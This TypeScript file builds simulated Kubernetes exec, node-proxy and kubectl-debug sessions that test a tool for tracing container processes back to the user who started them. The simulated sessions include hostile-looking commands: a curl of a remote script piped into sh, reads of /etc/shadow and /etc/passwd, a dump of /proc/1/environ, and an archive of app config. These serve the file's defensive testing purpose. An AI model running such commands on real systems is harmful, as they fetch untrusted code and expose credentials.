/**
 * The labelled correlation scenarios of the acceptance list, built in a World (correlation.ts): shared
 * by the tests and the bench like the World itself.
 */
import { at, World } from './correlation.ts';

/**
 * Acceptance scenario 1 (and, with options, 3 and 4): two sessions overlapping in one container, an exec
 * probe inside both windows, and the application's own child processes.
 */
export function overlappingSessions(world: World, options: { namespace?: string; userA?: string; userB?: string; ids?: [string, string] } = {}) {
  const ns = options.namespace ?? 'shop';
  const web = world.container('worker-1', ns, 'web-0', 'web');
  const t0 = '2025-10-21T09:00:00.000000Z';
  const [A, B] = options.ids ?? ['aaaaaaaa-0000-4000-8000-00000000000a', 'bbbbbbbb-0000-4000-8000-00000000000b'];

  // The app: nginx's master started long ago; its workers run a log rotation script now and then.
  const nginx = world.existing(web, '/usr/sbin/nginx');
  world.file(nginx, at(t0, 500), '/etc/nginx/nginx.conf');
  for (const offset of [20_000, 95_000]) {
    const rotate = world.spawn(nginx, at(t0, offset), ['/bin/sh', '-c', '/usr/local/bin/rotate-logs /var/log/nginx'], null);
    const script = world.spawn(rotate, at(t0, offset + 3), ['/usr/local/bin/rotate-logs', '/var/log/nginx']);
    const gzip = world.spawn(script, at(t0, offset + 9), ['/bin/gzip', '/var/log/nginx/access.log.1']);
    world.file(gzip, at(t0, offset + 10), '/var/log/nginx/access.log.1');
  }

  // Session A: alice, `kubectl exec -it web-0 -- bash`, 09:00:00.1 to 09:03:00.
  world.podExec({ auditId: A, user: options.userA ?? 'alice@example.com', namespace: ns, pod: 'web-0', container: 'web', command: ['bash'], tty: true, start: at(t0, 100), end: at(t0, 180_000) });
  const bash = world.runcExec(web, at(t0, 142), ['/usr/bin/bash'], { tty: true, truth: A });
  world.file(bash, at(t0, 150), '/root/.bashrc');
  const ls = world.spawn(bash, at(t0, 5_000), ['/bin/ls', '-la', '/app']);
  world.file(ls, at(t0, 5_001), '/app');
  // A nested pipeline: sh -c "cat /etc/passwd | grep root | wc -l"
  const pipe = world.spawn(bash, at(t0, 12_000), ['/bin/sh', '-c', 'cat /etc/passwd | grep root | wc -l']);
  const cat = world.spawn(pipe, at(t0, 12_002), ['/bin/cat', '/etc/passwd']);
  world.file(cat, at(t0, 12_003), '/etc/passwd');
  world.spawn(pipe, at(t0, 12_002.5), ['/bin/grep', 'root']);
  world.spawn(pipe, at(t0, 12_003), ['/usr/bin/wc', '-l']);
  // Deeper: sh -c "sh -c 'curl -s http://203.0.113.7/x.sh | sh'"
  const outer = world.spawn(bash, at(t0, 40_000), ['/bin/sh', '-c', "sh -c 'curl -s http://203.0.113.7/x.sh | sh'"]);
  const inner = world.spawn(outer, at(t0, 40_001), ['/bin/sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh']);
  const curl = world.spawn(inner, at(t0, 40_002), ['/usr/bin/curl', '-s', 'http://203.0.113.7/x.sh']);
  world.network(curl, at(t0, 40_010), 'remoteip=203.0.113.7 port=80 protocol=TCP');
  const piped = world.spawn(inner, at(t0, 40_002), ['/bin/sh']);
  const id = world.spawn(piped, at(t0, 40_300), ['/usr/bin/id']);
  world.file(id, at(t0, 40_301), '/etc/group');
  world.blockedExec(bash, at(t0, 70_000), ['/usr/bin/apt', 'update'], 'block-pkg-mgmt-tools-exec');

  // Session B: bob, a non-interactive `kubectl exec web-0 -- sh -c "tar ... && ls /tmp"` inside A's window.
  const tarCommand = 'tar czf /tmp/config.tgz /app/config && ls /tmp';
  world.podExec({ auditId: B, user: options.userB ?? 'bob@example.com', namespace: ns, pod: 'web-0', container: 'web', command: ['sh', '-c', tarCommand], start: at(t0, 60_000), end: at(t0, 63_000) });
  const sh = world.runcExec(web, at(t0, 60_040), ['/bin/sh', '-c', tarCommand], { truth: B });
  const tar = world.spawn(sh, at(t0, 60_045), ['/bin/tar', 'czf', '/tmp/config.tgz', '/app/config']);
  world.file(tar, at(t0, 60_046), '/app/config/settings.yaml');
  world.spawn(tar, at(t0, 60_047), ['/bin/gzip', '-f']);
  world.spawn(sh, at(t0, 61_500), ['/bin/ls', '/tmp']);

  // An exec liveness probe every 10 s, inside both windows; one fires right at B's start with a similar command.
  for (let offset = 2_000; offset < 190_000; offset += 10_000) {
    const probe = world.runcExec(web, at(t0, offset), ['/bin/sh', '-c', 'cat /tmp/healthy'], { truth: null });
    const probeCat = world.spawn(probe, at(t0, offset + 2), ['/bin/cat', '/tmp/healthy']);
    world.file(probeCat, at(t0, offset + 3), '/tmp/healthy');
  }
  const decoy = world.runcExec(web, at(t0, 60_020), ['/bin/sh', '-c', 'ls /tmp'], { truth: null });
  world.spawn(decoy, at(t0, 60_022), ['/bin/ls', '/tmp']);

  return { A, B, t0 };
}

/** Acceptance 5: a nodes/proxy exec into one container and a `kubectl debug` attach next to it. */
export function nodeProxyAndDebug(world: World, options: { metadataLevel?: boolean } = {}) {
  const t0 = '2025-10-21T11:00:00.000000Z';
  const N = 'cccccccc-0000-4000-8000-00000000000c';
  const P = 'dddddddd-0000-4000-8000-00000000000d';
  const D = 'eeeeeeee-0000-4000-8000-00000000000e';
  const api = world.container('worker-2', 'prod', 'api-0', 'api');
  const sidecar = world.container('worker-2', 'prod', 'api-0', 'envoy');
  const debugger_ = world.container('worker-2', 'prod', 'api-0', 'debugger-8xk2p');

  // The app keeps running in both containers.
  const app = world.existing(api, '/app/server');
  world.spawn(app, at(t0, 1_000), ['/bin/sh', '-c', 'date'], null);
  const envoy = world.existing(sidecar, '/usr/local/bin/envoy');
  world.file(envoy, at(t0, 1_500), '/etc/envoy/envoy.yaml');

  // A service account execs through the kubelet API: GET nodes/worker-2/proxy/exec/prod/api-0/api?command=sh&command=-c&command=id
  world.nodeProxyExec({ auditId: N, user: 'system:serviceaccount:monitoring:metrics-reader', node: 'worker-2', namespace: 'prod', pod: 'api-0', container: 'api', command: ['sh', '-c', 'id; cat /etc/shadow'], start: at(t0, 2_000), end: at(t0, 2_600) });
  const sh = world.runcExec(api, at(t0, 2_031), ['/bin/sh', '-c', 'id; cat /etc/shadow'], { truth: N });
  world.spawn(sh, at(t0, 2_033), ['/usr/bin/id']);
  const shadow = world.spawn(sh, at(t0, 2_036), ['/bin/cat', '/etc/shadow']);
  world.file(shadow, at(t0, 2_037), '/etc/shadow');

  // carol runs `kubectl debug -it api-0 --image busybox --target api`: patch, then attach 2.7 s later.
  world.kubectlDebug({ patchAuditId: P, attachAuditId: D, user: 'carol@example.com', namespace: 'prod', pod: 'api-0', name: 'debugger-8xk2p', target: 'api', patchAt: at(t0, 10_000), attachAt: at(t0, 12_700), end: at(t0, 90_000), metadataLevel: options.metadataLevel });
  const shell = world.runcExec(debugger_, at(t0, 11_900), ['/bin/sh'], { tty: true, truth: D, init: true });
  const ps = world.spawn(shell, at(t0, 20_000), ['/bin/ps', 'aux']);
  world.file(ps, at(t0, 20_001), '/proc/1/cmdline');
  const environ = world.spawn(shell, at(t0, 30_000), ['/bin/cat', '/proc/1/environ']);
  world.file(environ, at(t0, 30_001), '/proc/1/environ');
  // Meanwhile the envoy sidecar reloads: not carol's.
  world.spawn(envoy, at(t0, 25_000), ['/bin/sh', '-c', 'kill -HUP 1'], null);

  return { N, P, D, t0 };
}

/** Acceptance 2: the same pod name in two namespaces, same node, same time. */
export function samePodTwoNamespaces(world: World) {
  const first = overlappingSessions(world, { namespace: 'shop' });
  const second = overlappingSessions(world, {
    namespace: 'staging',
    userA: 'dave@example.com',
    userB: 'erin@example.com',
    ids: ['aaaaaaaa-1111-4000-8000-00000000000a', 'bbbbbbbb-1111-4000-8000-00000000000b'],
  });
  return { first, second };
}
